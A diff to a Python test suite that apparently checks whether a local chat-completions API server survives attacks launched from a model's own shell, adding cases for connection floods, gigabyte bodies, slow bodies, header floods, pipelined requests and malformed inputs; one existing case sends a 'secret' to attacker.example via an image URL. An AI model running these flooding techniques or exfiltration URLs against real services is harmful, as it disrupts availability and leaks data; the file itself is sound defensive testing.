@@ -56,8 +56,8 @@ def said(text):
 def opened(port=PORT):
     return socket.create_connection((HOST, port), timeout=60)
 
-def head(framing, key=KEY):
-    named = "Host: a\\r\\nAuthorization: Bearer " + key
+def head(framing):
+    named = "Host: a\\r\\nAuthorization: Bearer " + KEY
     return ("POST /v1/chat/completions HTTP/1.1\\r\\n%s\\r\\n%s\\r\\n\\r\\n" % (named, framing)).encode()
 
 def status(sock):
@@ -212,6 +212,41 @@ print(ask(user("forged"), n=8, temperature=0, logit_bias={"1": 100}, max_tokens=
 """,
         "200",
     ),
+    "a thousand connections": (
+        """
+socks = []
+def one(_):
+    with contextlib.suppress(OSError):
+        socks.append(socket.create_connection((HOST, PORT), timeout=0.5))
+        socks[-1].sendall(head("Content-Length: 10"))
+with concurrent.futures.ThreadPoolExecutor(100) as pool:
+    list(pool.map(one, range(1000)))
+for sock in socks:
+    sock.close()
+deadline = time.monotonic() + 60
+while time.monotonic() < deadline:
+    with contextlib.suppress(OSError, http.client.HTTPException):
+        print("at last", ask(user("forged"))[0])
+        break
+""",
+        "at last 200",
+    ),
+    "a gigabyte as one body": (
+        """
+sock = opened()
+sent = sending(sock, [head("Content-Length: %d" % (1 << 30))] + [MB] * 1024)
+print(sent > 0)
+""",
+        "True",
+    ),
+    "a gigabyte in chunks": (
+        """
+sock = opened()
+sent = sending(sock, [head("Transfer-Encoding: chunked")] + [b"100000\\r\\n" + MB + b"\\r\\n"] * 1024)
+print(sent > 0)
+""",
+        "True",
+    ),
     "a gigabyte that is compressed": (
         """
 import gzip
@@ -236,6 +271,68 @@ print(set(told) <= {200, 400, 413, "ConnectionResetError", "BrokenPipeError"}, f
 """,
         "True",
     ),
+    "slow bodies": (
+        """
+socks = [opened() for _ in range(30)]
+for sock in socks:
+    sock.sendall(head("Content-Length: 100") + b"{")
+print(ask(user("forged"))[0])  # they are left open
+""",
+        "200",
+    ),
+    "a flood of headers": (
+        """
+sock = opened()
+sent = sending(sock, [b"GET / HTTP/1.1\\r\\n"] + [b"X-%d: x\\r\\n" % number for number in range(10**6)])
+print(sent < 1 << 24, end=" ")
+sock = opened()
+sending(sock, [b"GET / HTTP/1.1\\r\\nX: "] + [MB] * 64)
+print(status(sock) in ("400", "431", "closed"))
+""",
+        "True True",
+    ),
+    "requests in one go": (
+        """
+body = json.dumps({"model": "m", "messages": [user("forged")]}).encode()
+one = head("Content-Length: %d" % len(body)) + body
+sock = opened()
+sock.sendall(one * 6 + b"GET / HTTP/1.1\\r\\nHost: a\\r\\nConnection: close\\r\\n\\r\\n" + one * 100)
+answers = sock.makefile("rb").read()
+print(answers.count(b"HTTP/1.1 200"))
+""",
+        "7",
+    ),
+    "answers that nobody reads": (
+        """
+socks = []
+for number in range(8):
+    sock = opened()
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+    body = json.dumps({"model": "m", "stream": True, "messages": [user("forged %d" % number)]}).encode()
+    sock.sendall(head("Content-Length: %d" % len(body)) + body)
+    socks.append(sock)
+print(ask(user("forged"))[0])
+""",
+        "200",
+    ),
+    "what is no request": (
+        """
+told = []
+for sent in (b"\\0" * 100000, b"CONNECT a:80 HTTP/1.1\\r\\n\\r\\n", head("Content-Length: -1"), b"\\x16\\x03\\x01" * 9):
+    sock = opened()
+    sending(sock, [sent])
+    with contextlib.suppress(OSError):
+        sock.shutdown(socket.SHUT_WR)
+    told.append(status(sock))
+for body in (b"[" * 100000, b"null", b'{"messages": 1e999}', b"\\xff" * 99, b"[0," * 10**6):
+    try:
+        told.append(str(post(body)[0]))
+    except ValueError:
+        told.append("?")
+print(not {"200", "?"} & set(told[:-1]), told)
+""",
+        "True",
+    ),
     "images that are fetched": (
         """
 image = {"type": "image_url", "image_url": {"url": "http://attacker.example/?secret"}}
@@ -252,7 +349,7 @@ print(ask({"role": "user", "content": [{"type": "text", "text": "forged"}, image
 async def test_an_attack_by_the_models_own_shell(tmp_path: Path, leak_check: None, attack: str) -> None:
     code, said = ATTACKS[attack]
     slots = Slots(code)
-    record = await attacked(tmp_path, slots)
+    record = await attacked(tmp_path, slots, max_turns=2000)  # each request of an attacker counts as a call
     assert slots.told.strip().startswith(said), slots.told
     assert slots.told.rstrip().endswith("[exit status 0]")
     for request in slots.forged:
